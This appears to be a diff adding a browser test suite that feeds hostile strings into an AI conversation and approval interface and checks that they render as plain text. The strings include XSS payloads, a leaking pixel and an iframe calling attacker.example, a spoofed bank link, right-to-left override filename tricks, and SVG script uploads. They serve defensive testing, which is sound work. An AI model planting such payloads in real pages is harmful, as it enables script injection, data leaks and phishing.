@@ -1,0 +1,94 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { asks, begins, thread } from './acts.mjs'
+import { api, browse, isAccessible, until, world } from './stage.mjs'
+
+// Each would run, fetch or mislead if it were taken for more than text. `browse` fails on any request to elsewhere and on
+// any breach of the policy.
+const ATTACKS = [
+  '<img src=x onerror="window.hurt=1">',
+  '<script>window.hurt=1</script>',
+  '<svg onload="window.hurt=1"><a href="javascript:window.hurt=1">x</a></svg>',
+  '![seen](https://attacker.example/pixel.png?leak=1)',
+  '[click](javascript:window.hurt=1)',
+  '[https://bank.example](https://attacker.example/)',
+  '<iframe src="https://attacker.example/"></iframe>',
+  'invoice\u202egnp.exe',
+  'zero\u200bwidth',
+  `huge${'w'.repeat(3_000)}`,
+  '{{constructor.constructor("window.hurt=1")()}}',
+]
+
+const unhurt = async (page) => {
+  assert.equal(await page.evaluate(() => window.hurt), undefined, 'nothing ran')
+  assert.equal(await page.locator('#main script, #main iframe, #main img[src^="http"], #main svg[onload], #main [onerror]').count(), 0)
+  assert.equal(await page.locator('a[href^="javascript"]').count(), 0)
+  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
+  assert.ok(wide <= 0, `the page is ${wide} pixels too wide`)
+}
+
+test('hostile text in messages is text', async (t) => {
+  const conversation = await begins(ATTACKS.join('\n\n'))
+  await until(async () => (await thread(conversation)).some(({ role }) => role === 'ASSISTANT'), 'the answer')
+  for (const width of [1280, 375]) {
+    const page = await browse(t, { as: 'ADMIN', width, at: `/o/${world.org}/conversations/${conversation}` })
+    await page.getByRole('article').last().waitFor()
+    await page.waitForTimeout(800)
+    await unhurt(page)
+    await page.getByText('U+202E').first().waitFor()
+    await isAccessible(page, `with hostile text, ${width}`)
+  }
+})
+
+test('hostile titles, tools and inputs of an approval are text, with what hides made visible', async (t) => {
+  const input = { '<b>name</b>': ATTACKS, path: 'safe\u202egnp.exe' }
+  const asked = await asks(`do execute ${ATTACKS[0]} \u202egnp {"command": ${JSON.stringify(JSON.stringify(input))}}`)
+  for (const at of [`approvals?peek=${asked.approval}`, `approvals/${asked.approval}`, `conversations/${asked.conversation}`]) {
+    for (const width of [1280, 375]) {
+      const page = await browse(t, { as: 'ADMIN', width, at: `/o/${world.org}/${at}` })
+      await page.getByRole('button', { name: 'Deny' }).waitFor()
+      await page.getByText('U+202E').first().waitFor()
+      await page.getByText(/hidden characters? stands?/).first().waitFor()
+      await unhurt(page)
+    }
+  }
+})
+
+test('a hostile question with hostile options is text', async (t) => {
+  const asked = await asks(`ask ${ATTACKS[1]} | ${ATTACKS[0]} | ${ATTACKS[7]} | ${ATTACKS[9].slice(0, 400)}`)
+  const page = await browse(t, { as: 'ADMIN', width: 375, at: `/o/${world.org}/approvals/${asked.approval}` })
+  await page.getByRole('radio').first().waitFor()
+  await unhurt(page)
+})
+
+test('a hostile subject is text in the list, the header and the browser’s tab', async (t) => {
+  const conversation = await begins('hello')
+  await api(
+    'mutation($org: Id!, $id: Id!, $title: String!) { updateConversation(orgId: $org, id: $id, input: { title: $title }) { id } }',
+    { id: conversation, title: `${ATTACKS[0]} ${'w'.repeat(120)}` },
+  )
+  for (const at of [`conversations`, `conversations/${conversation}?panel=details`]) {
+    for (const width of [1280, 375]) {
+      const page = await browse(t, { as: 'ADMIN', width, at: `/o/${world.org}/${at}` })
+      await page.getByText('onerror').first().waitFor()
+      await unhurt(page)
+    }
+  }
+})
+
+test('a file that calls itself a picture is drawn as a picture or not at all', async (t) => {
+  const page = await browse(t, { as: 'OPERATOR', at: `/o/${world.org}/conversations/${await begins('hello')}` })
+  await page.getByRole('textbox', { name: 'Message' }).waitFor()
+  const script = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>window.hurt=1</script></svg>')
+  await page.locator('input[type=file]').setInputFiles([
+    { name: 'evil.png', mimeType: 'image/png', buffer: script },
+    { name: 'evil.svg', mimeType: 'image/svg+xml', buffer: script },
+    { name: '<img src=x onerror=alert(1)>.html', mimeType: 'text/html', buffer: script },
+  ])
+  await page.getByRole('textbox', { name: 'Message' }).fill('files')
+  await page.keyboard.press('Enter')
+  await page.getByRole('link', { name: /Save evil\.svg/ }).waitFor()
+  await page.waitForTimeout(800)
+  assert.equal(await page.getByRole('article').locator('img').count(), 0)
+  await unhurt(page)
+})
